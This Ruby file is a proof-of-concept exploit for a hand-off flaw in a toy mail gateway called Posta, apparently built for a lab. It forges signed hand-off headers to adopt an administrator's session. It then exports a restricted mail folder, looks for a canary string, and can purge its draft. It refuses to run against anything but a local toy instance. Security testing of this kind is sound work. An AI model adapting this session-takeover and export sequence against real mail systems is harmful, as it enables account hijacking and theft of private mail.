#!/usr/bin/env ruby
# frozen_string_literal: true

# Proof of concept for the hand-off flaw of the Posta toy gateway.
#
# Exit status: 0 canary read, 1 not vulnerable or failed, 2 not a Posta here.

require "digest"
require "erb"
require "json"
require "net/http"
require "openssl"
require "optparse"
require "securerandom"
require "uri"

module Posta
  LOCAL_NAMES = %w[127.0.0.1 localhost].freeze
  BANNER = "posta-toy/"
  FORM_TYPE = "application/x-www-form-urlencoded"
  BODY_LIMIT = 1 << 20
  CANARY = /posta canary [0-9A-Za-z-]+/

  # The target is not a Posta on this machine.
  class Refused < StandardError; end

  # The gateway did not do what the attack needs.
  class Failed < StandardError; end

  Reply = Struct.new(:status, :text) do
    def ok?
      status < 400
    end

    def expect(what)
      raise Failed, "#{what}: status #{status} #{text[0, 80]}" unless ok?

      self
    end

    def json
      value = JSON.parse(text)
      raise Failed, "the answer is not a JSON object" unless value.is_a?(Hash)

      value
    rescue JSON::ParserError
      raise Failed, "no JSON in an answer with status #{status}"
    end
  end

  # The arithmetic of the hand-off.
  module Proof
    module_function

    def nonce
      "#{Time.now.utc.strftime('%Y%m%dT%H%M%SZ')}.#{SecureRandom.hex(6)}"
    end

    def signature(ticket, nonce)
      OpenSSL::HMAC.hexdigest("SHA384", ticket, "transfer:#{nonce}")[0, 39]
    end

    def session(ticket)
      encoded = [Digest::MD5.digest(ticket)].pack("m0").tr("+/", "-_").delete("=")
      "lnk-#{encoded.downcase}"
    end

    def headers(ticket)
      value = nonce
      { "X-Posta-Nonce" => value, "X-Posta-Signature" => signature(ticket, value) }
    end
  end

  # One method for each request that the attack makes.
  class Client
    NETWORK_ERRORS = [
      SystemCallError, SocketError, IOError, Timeout::Error,
      Net::ProtocolError, Net::HTTPBadResponse, Net::HTTPHeaderSyntaxError
    ].freeze

    def initialize(host, port)
      unless LOCAL_NAMES.include?(host.strip.downcase)
        raise Refused, "#{host}: only a Posta on 127.0.0.1 is allowed"
      end
      raise Refused, "#{port}: no such port" unless port.between?(1, 65_535)

      @host = LOCAL_NAMES.first
      @port = port
      @requests = 0
    end

    def waiting
      answer = get("/status", { probe: "ping", id: request_id }, {}).expect("status").json
      raise Refused, "this Posta is not the toy" unless answer["toy"] == true

      answer.fetch("waiting", 0)
    end

    def board
      get("/board", { audience: "personnel", id: request_id }, client_headers)
        .expect("board").json.fetch("waiting", [])
    end

    # Adopts the session of a ticket, and keeps the pass for what follows.
    def take_over(ticket)
      form = {
        ticket: ticket, session: Proof.session(ticket), scope: "campus",
        mode: "adopt", durable: "1", reason: "rebalancing"
      }
      headers = client_headers.merge(Proof.headers(ticket), "Content-Type" => FORM_TYPE)
      grant = post("/door/handoff", headers, URI.encode_www_form(form)).expect("hand-off").json
      @pass = grant["pass"]
      raise Failed, "the hand-off gave no pass" if @pass.to_s.empty?

      grant
    end

    def folders
      headers = pass_headers.merge("Accept" => "application/vnd.posta.register+json")
      get("/classic/folders", { view: "brief", id: request_id }, headers)
        .expect("folders").json.fetch("folders", [])
    end

    def file_draft(text)
      boundary = "ContentEdge#{SecureRandom.hex(8)}"
      headers = pass_headers.merge(
        "Content-Type" => "multipart/form-data; boundary=#{boundary}",
        "X-Posta-Priority" => "regular"
      )
      body = [
        "--#{boundary}",
        'Content-Disposition: form-data; name="passage"',
        "",
        text,
        "--#{boundary}--",
        ""
      ].join("\r\n")
      post("/drafts", headers, body).expect("draft").json.fetch("draft")
    end

    def messages(folder)
      path = with_params("/messages", folder: folder, order: "alphabetical", channel: "socket")
      send_request("QUERY", path, pass_headers).expect("messages").json.fetch("messages", [])
    end

    def start_export(folder)
      order = { folder: folder, depth: "flat", consent: "issued", format: "mh" }
      headers = pass_headers.merge("Content-Type" => "application/json")
      answer = post("/governance/export", headers, JSON.generate(order)).expect("export").json
      [answer.fetch("job"), answer.fetch("mails")]
    end

    def fetch_export(job)
      headers = client_headers.merge("Cookie" => "mailsid=#{@pass}")
      get("/export/#{quote_path(job)}", { source: "repository", id: request_id }, headers)
        .expect("export file").text
    end

    def purge(mail)
      path = with_params("/purge/#{quote_path(mail)}", acting: "owner", commit: "lazy")
      send_request("PUT", path, pass_headers).expect("purge").json.fetch("purged", 0)
    end

    def close
      form = URI.encode_www_form(outcome: "released", id: request_id)
      post("/close", pass_headers.merge("Content-Type" => FORM_TYPE), form).ok?
    end

    private

    def request_id
      format("req-%<number>03d-%<tail>s", number: @requests += 1, tail: SecureRandom.hex(5))
    end

    def client_headers
      {
        "User-Agent" => "handoff-check/0.9",
        "X-Posta-Client" => "widget",
        "X-Request-Id" => request_id,
        "Accept-Language" => "fr-CA"
      }
    end

    def pass_headers
      client_headers.merge("Authorization" => "Badge #{@pass}")
    end

    def with_params(path, params)
      query = params.map { |pair| pair.map { |part| ERB::Util.url_encode(part) }.join("=") }
      "#{path}?#{query.join('&')}"
    end

    def quote_path(value)
      value.to_s.split("/", -1).map { |part| ERB::Util.url_encode(part) }.join("/")
    end

    def get(path, params, headers)
      send_request("GET", with_params(path, params), headers)
    end

    def post(path, headers, body)
      send_request("POST", path, headers, body)
    end

    def build_request(method, path, headers, body)
      headers = { "Accept-Encoding" => "identity" }.merge(headers)
      headers["Content-Length"] = "0" if method == "PUT" && body.nil?
      request = Net::HTTPGenericRequest.new(method, !body.nil?, true, path, headers)
      # Net::HTTP fills these in by itself; the gateway need not see them.
      %w[Accept User-Agent].each { |name| request.delete(name) unless headers.key?(name) }
      request.body = body if body
      request
    end

    def send_request(method, path, headers, body = nil)
      text = +""
      response = connection.start do |http|
        http.request(build_request(method, path, headers, body)) do |answer|
          check_banner(answer)
          answer.read_body do |chunk|
            text << chunk.b
            raise Failed, "#{path}: the answer is too long" if text.bytesize > BODY_LIMIT
          end
        end
      end
      Reply.new(response.code.to_i, text.force_encoding(Encoding::UTF_8).scrub)
    rescue *NETWORK_ERRORS => e
      raise Failed, "#{method} #{path}: #{e.message}"
    end

    def connection
      http = Net::HTTP.new(@host, @port, nil) # nil: never through a proxy
      http.open_timeout = http.read_timeout = http.write_timeout = 15
      http.max_retries = 0
      http
    end

    def check_banner(response)
      return if response["Server"].to_s.start_with?(BANNER)

      raise Refused, "#{@host}:#{@port} does not answer as Posta"
    end
  end

  Mail = Struct.new(:subject, :body) do
    def self.parse_all(text)
      text.split(/^From .*\n/, -1).drop(1).map { |block| parse(block) }
    end

    def self.parse(block)
      head, _, body = block.partition("\n\n")
      headers = head.each_line(chomp: true).filter_map do |line|
        name, colon, value = line.partition(": ")
        [name.downcase, value] unless colon.empty?
      end.to_h
      new(headers.fetch("subject", ""), body.strip)
    end
  end

  # The steps, in order.
  class Attack
    def initialize(client, role:, folder:, keep:)
      @client = client
      @role = role
      @wanted = folder
      @keep = keep
    end

    def run
      waiting = @client.waiting
      grant = @client.take_over(oldest_ticket(@client.board))
      folder = choose_folder(@client.folders)
      draft = @client.file_draft("Posta hand-off test")
      mails = export(folder)
      {
        waiting: waiting,
        account: grant.fetch("who", "?"),
        folder: folder,
        subjects: mails.map(&:subject).join("; "),
        purged: @keep ? 0 : @client.purge(draft),
        closed: @client.close,
        canary: mails.filter_map { |mail| mail.body[CANARY] }.first
      }
    end

    private

    def export(folder)
      listing = @client.messages(folder)
      job, total = @client.start_export(folder)
      mails = Mail.parse_all(@client.fetch_export(job))
      return mails unless mails.size < [total, listing.size].max

      raise Failed, "the export is shorter than the folder"
    end

    def oldest_ticket(waiting)
      oldest = waiting.select { |entry| entry["role"] == @role }.min_by { |entry| entry.fetch("since") }
      raise Failed, "no #{@role} has a hand-off open" unless oldest

      oldest.fetch("ticket")
    end

    def choose_folder(folders)
      raise Failed, "the account has no folders" if folders.empty?
      return @wanted if folders.any? { |folder| folder.fetch("name") == @wanted }

      folders.max_by { |folder| folder.fetch("count") }.fetch("name")
    end
  end

  module CLI
    module_function

    def run(argv)
      options = parse(argv)
      client = Client.new(options[:host], options[:port])
      result = Attack.new(client, **options.slice(:role, :folder, :keep)).run
      show(result, options[:json])
      result[:canary] ? 0 : 1
    rescue OptionParser::ParseError, Refused => e
      warn "refused: #{e.message}"
      2
    rescue Failed, KeyError => e
      warn "failed: #{e.message}"
      1
    end

    def parse(argv)
      options = {
        host: LOCAL_NAMES.first, role: "administrator", folder: "restricted",
        keep: false, json: false
      }
      parser = OptionParser.new do |opts|
        opts.banner = "Posta hand-off proof of concept\nUsage: port.rb --port PORT [options]"
        opts.on("--host HOST", "127.0.0.1 only")
        opts.on("--port PORT", OptionParser::DecimalInteger, "where Posta listens (required)")
        opts.on("--role ROLE", "whose hand-off")
        opts.on("--folder FOLDER", "what to export")
        opts.on("--keep", "leave the draft behind")
        opts.on("--json", "print one JSON object")
      end
      rest = parser.parse(argv, into: options)
      raise OptionParser::InvalidArgument, rest.first unless rest.empty?
      raise OptionParser::MissingArgument, "--port" unless options[:port]

      options
    end

    def show(result, as_json)
      return puts(JSON.pretty_generate(result)) if as_json

      width = result.keys.map(&:size).max
      result.each { |name, value| puts "#{name.to_s.ljust(width)}  #{value.nil? ? 'none' : value}" }
    end
  end
end

exit Posta::CLI.run(ARGV) if $PROGRAM_NAME == __FILE__
